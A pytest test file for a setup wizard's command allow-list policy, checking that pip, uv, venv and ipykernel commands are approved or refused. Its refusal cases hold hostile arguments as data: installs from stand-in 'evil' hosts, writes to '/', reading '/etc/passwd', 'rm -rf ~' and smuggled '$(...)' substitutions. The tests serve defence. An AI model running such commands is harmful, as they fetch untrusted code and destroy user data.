"""The one command policy: an allow-list of shapes and options. Each hostile argv here is one a block-list
let through (pip accepts unique prefixes of its long options) or one a profile, a backup or a report
could carry into a Run button."""

from __future__ import annotations

import pytest

from wizard.actions.policy import ActionRefused, ApprovedCommand, approve
from wizard.shell_text import command_text

PY = "/envs/a/bin/python"
INSTALL = (PY, "-m", "pip", "install")


def test_install_into_the_user_site_only_as_undo_puts_back_exact_pins() -> None:
    command = approve((*INSTALL, "--user", "--no-deps", "torch==2.12.0+cpu"), PY)
    assert command.argv[-3:] == ("--user", "--no-deps", "torch==2.12.0+cpu")


@pytest.mark.parametrize(
    "extra",
    [
        ("--break-system-packages", "torch"),
        ("--break-sys", "torch"),  # pip expands the prefix to --break-system-packages
        ("--break-system", "torch"),
        ("--target", "/", "torch"),
        ("--tar", "/", "torch"),
        ("-t", "/tmp/x", "torch"),
        ("--root", "/", "torch"),
        ("--prefix", "/usr", "torch"),
        ("--user", "torch"),
        ("--user", "--no-deps", "torch"),  # --user only for undo's exact pins
        ("--user", "torch==2.12.0+cpu"),
        ("--us", "torch"),
        ("-r", "http://evil/reqs.txt"),
        ("-rhttp://evil/reqs.txt",),
        ("--requirement", "reqs.txt"),
        ("-e", "git+https://evil/x#egg=x"),
        ("--editable", "."),
        ("-c", "constraints.txt"),
        ("--constraint", "c.txt"),
        ("-fhttp://evil/",),
        ("--find-links", "/tmp/wheels", "torch"),
        ("--index-url", "file:///tmp/index", "torch"),
        ("--index-url", "/tmp/index", "torch"),
        ("--extra-index-url=ftp://host/simple", "torch"),
        ("-i", "-r", "torch"),
        ("--report", "/etc/passwd", "torch"),
        ("--progress-bar", "pretty", "torch"),
        ("--no-deps=1", "torch"),
        ("--trusted-host", "evil", "torch"),
        ("--config-settings", "x=y", "torch"),
        ("--global-option", "x", "torch"),
        ("-Ur", "reqs.txt"),
        ("torch @ https://evil/torch.whl",),
        ("torch@https://evil/torch.whl",),
        ("https://evil/torch-2.0-py3-none-any.whl",),
        ("./torch",),
        ("../x.whl",),
        ("/tmp/torch.whl",),
        ("C:\\wheels\\torch.whl",),
        (".",),
        ("torch; python_version > '3'",),
        ("torch==2.0\n--target=/",),
        ("torch[$(rm -rf ~)]",),
        (),
        ("--no-deps",),
    ],
)
def test_install_refuses(extra: tuple[str, ...]) -> None:
    with pytest.raises(ActionRefused):
        approve((*INSTALL, *extra), PY)


@pytest.mark.parametrize(
    "argv",
    [
        ("sudo", PY, "-m", "pip", "install", "torch"),
        ("/usr/bin/python3", "-m", "pip", "install", "torch"),
        (PY, "-m", "pip", "download", "torch"),
        (PY, "-m", "pip", "wheel", "torch"),
        (PY, "-m", "pip", "config", "set", "global.index-url", "http://evil"),
        (PY, "-c", "import os; os.system('rm -rf ~')", "x"),
        (PY, "-I", "-m", "pip", "install", "torch"),
        (PY, "-m", "pip"),
        (PY, "-m", "pip", "uninstall", "-r", "reqs.txt"),
        (PY, "-m", "pip", "uninstall", "--break-sys", "torch"),
        (PY, "-m", "pip", "uninstall", "torch>=2"),
        (PY, "-m", "pip", "uninstall"),
        (PY, "-m", "venv", "relative/folder"),
        (PY, "-m", "venv", "/"),
        (PY, "-m", "venv", "/home"),
        (PY, "-m", "venv", "--system-site-packages", "/home/u/env"),
        (PY, "-m", "venv", "/home/u/a", "/home/u/b"),
        (PY, "-m", "ensurepip"),
        (PY, "-m", "ensurepip", "--upgrade", "--root", "/"),
        (PY, "-m", "ensurepip", "--upgrade", "--user"),
        (PY, "-m", "ipykernel", "install", "--name", "x"),
        (PY, "-m", "ipykernel", "install", "--user", "--name", "../../x"),
        (PY, "-m", "ipykernel", "install", "--user", "--name", "x", "--prefix", "/"),
        (PY, "-m", "http.server"),
        ("/opt/uv", "pip", "install", "--python", "/usr/bin/python3", "torch"),
        ("/opt/uv", "pip", "install", "--python", PY, "--target", "/", "torch"),
        ("/opt/uv", "pip", "sync", "--python", PY, "reqs.txt"),
        ("/opt/uv", "run", "evil.py"),
        ("/opt/uvx", "pip", "install", "--python", PY, "torch"),
        ("/opt/uv", "pip", "uninstall", "--python", "/usr/bin/python3", "torch"),
        ("/opt/uv", "pip", "uninstall", "--python", PY, "torch==2.13.0"),
        ("/opt/uv", "pip", "uninstall", "--python", PY, "--system", "torch"),
        ("/opt/uv", "pip", "uninstall", "--python", PY),
    ],
)
def test_other_shapes_refused(argv: tuple[str, ...]) -> None:
    with pytest.raises(ActionRefused):
        approve(argv, PY)


@pytest.mark.parametrize(
    ("argv", "kind"),
    [
        ((*INSTALL, "torch==2.13.0+cu130", "torchvision==0.28.0+cu130", "--index-url", "https://download.pytorch.org/whl/cu130"),
         "pip-install"),
        ((*INSTALL, "--force-reinstall", "--no-deps", "torch==2.13.0", "nvidia-cudnn-cu12==9.1.0.70"), "pip-install"),
        ((*INSTALL, "numpy<2"), "pip-install"),
        ((*INSTALL, "--upgrade", "pip"), "pip-install"),
        ((*INSTALL, "--extra-index-url=http://127.0.0.1:8000/simple", "-U", "torch"), "pip-install"),
        ((PY, "-m", "pip", "uninstall", "-y", "torch"), "pip-uninstall"),
        ((PY, "-m", "venv", "/home/u/torch-env"), "venv"),
        ((PY, "-m", "ensurepip", "--upgrade"), "ensurepip"),
        ((PY, "-m", "ipykernel", "install", "--user", "--name", "torch-env"), "ipykernel"),
        ((PY, "-m", "ipykernel", "install", "--user", "--name", "torch-env", "--display-name", "Torch (GPU)"), "ipykernel"),
        (("/home/u/.cargo/bin/uv", "pip", "install", "--python", PY, "torch==2.13.0", "--index-url", "https://x/whl"),
         "uv-pip-install"),
        (("/home/u/.cargo/bin/uv", "pip", "uninstall", "--python", PY, "torch", "numpy"), "uv-pip-uninstall"),
    ],
)
def test_allowed_shapes(argv: tuple[str, ...], kind: str) -> None:
    command = approve(argv, PY)
    assert command.kind == kind and command.argv == argv and command.python == PY


def test_approved_names_what_it_installs() -> None:
    command = approve((*INSTALL, "--index-url", "https://x/whl/cpu", "torch==2.13.0+cpu", "numpy<2"), PY)
    assert command.requirements == ("torch==2.13.0+cpu", "numpy<2")


def test_only_approve_makes_an_approved_command() -> None:
    with pytest.raises(TypeError):
        ApprovedCommand((PY, "-m", "pip", "install", "--target", "/", "x"), PY, "pip-install")


@pytest.mark.parametrize(
    ("argv", "os_name", "expected"),
    [
        (("torch-setup-wizard", "fix", "--undo", "--python", "/home/a b/x'y/python"), "linux",
         "torch-setup-wizard fix --undo --python '/home/a b/x'\"'\"'y/python'"),
        (("torch-setup-wizard", "fix", "--undo", "--python", "C:\\My Envs\\python.exe"), "windows",
         'torch-setup-wizard fix --undo --python "C:\\My Envs\\python.exe"'),
        (("python", "-m", "pip", "install", "numpy<2", "$(id)"), "linux", "python -m pip install 'numpy<2' '$(id)'"),
        (("python", "-m", "pip", "install", "numpy<2", "a&b", "x|y"), "windows",
         'python -m pip install "numpy<2" "a&b" "x|y"'),
    ],
)
def test_printed_commands_are_shell_quoted(argv: tuple[str, ...], os_name: str, expected: str) -> None:
    assert command_text(argv, os_name) == expected
